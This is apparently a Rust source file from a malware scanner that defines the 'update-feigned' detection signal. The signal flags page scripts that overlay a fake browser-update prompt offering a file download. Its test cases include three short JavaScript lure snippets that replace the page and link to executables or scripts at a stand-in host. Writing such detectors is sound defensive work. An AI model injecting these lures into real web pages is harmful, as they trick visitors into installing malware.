//! `update-feigned`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "update-feigned",
    description: "The script covers the page with a call to update the browser and offers a file to save.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Referrer, Atom::Storage, Atom::Cookie, Atom::SignedIn, Atom::BrowserCheck])],
    within: 0,
    only_if: Some(feigns),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(document.referrer&&!sessionStorage.u){sessionStorage.u=1;document.body.innerHTML='<h1>Your browser is out of date</h1><a id=\"d\">Update Chrome</a>';d.onclick=function(){var a=document.createElement('a');a.href='https://dl.example/get';a.download='ChromeUpdate.js';a.click()}}",
            "if(/google/.test(document.referrer)&&!localStorage.fu){var o=document.createElement('div');o.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999';o.innerHTML='<h2>Update your browser</h2><a href=\"https://dl.example/Update.zip\" download>Update now</a>';document.body.appendChild(o)}",
            "if(navigator.userAgent.indexOf('Chrome')>0){document.documentElement.innerHTML='<p>This version of Chrome is outdated. Update Chrome to go on.</p><a href=\"https://dl.example/chrome_update.exe\">Update</a>'}",
        ],
        without: &[
            "if(!('noModule' in s)){localStorage.old=1;document.body.innerHTML='<h1>Your browser is out of date</h1><a href=\"https://browsers.example/\">See newer browsers</a>'}",
            "if(navigator.userAgent.indexOf('MSIE')>0){banner.innerHTML='Please update your browser. <a href=\"https://browsers.example/\">How</a>'}",
            "if(localStorage.version<latest){bar.innerHTML='An update is ready. <a href=\"https://app.example/App.exe\" download>Download</a>'}",
        ],
    },
};

fn feigns(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 110);
    if !near.has_text(&["updat", "out of date", "outdated"]) {
        return false;
    }
    let called = near.texts().any(|(_, text)| calls_to_update(&text));
    let saved = || {
        near.words(&["download"]).any(|at| near.is(at + 1, b'='))
            || near.texts().any(|(_, text)| {
                text.contains("<a ")
                    && (text.contains(" download") || FILES.iter().any(|file| text.contains(file)))
            })
    };
    let covers = || {
        near.covers_page()
            || near
                .words(&["innerHTML"])
                .any(|at| matches!(near.before(at, 1), "body" | "documentElement") && near.is(at + 1, b'='))
    };
    called && covers() && saved()
}

/// Whether a text tells people to update the program that they browse with.
fn calls_to_update(text: &str) -> bool {
    let program = ["browser", "chrome", "firefox", "edge", "safari", "flash player", "font pack"];
    let update = ["update", "out of date", "outdated"];
    program.iter().any(|name| text.contains(name)) && update.iter().any(|word| text.contains(word))
}

const FILES: &[&str] = &[
    ".exe\"", ".zip\"", ".js\"", ".msi\"", ".hta\"", ".dmg\"", ".apk\"", ".exe'", ".zip'", ".msi'", ".iso\"",
];
